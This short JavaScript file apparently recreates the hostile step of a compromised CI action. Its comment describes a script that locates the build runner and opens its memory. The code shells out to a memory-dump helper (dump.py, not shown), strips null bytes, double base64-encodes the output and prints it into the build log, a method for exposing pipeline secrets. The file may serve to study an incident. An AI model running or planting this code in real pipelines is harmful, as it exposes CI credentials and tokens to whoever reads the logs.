// What the moved tag did, without its prey: a script beside the action looks for the runner and opens its memory.
'use strict';
const { execFileSync } = require('node:child_process');
execFileSync('bash', ['-c', `python3 ${__dirname}/dump.py | tr -d '\\0' | base64 -w0 | base64 -w0`], { stdio: 'inherit' });
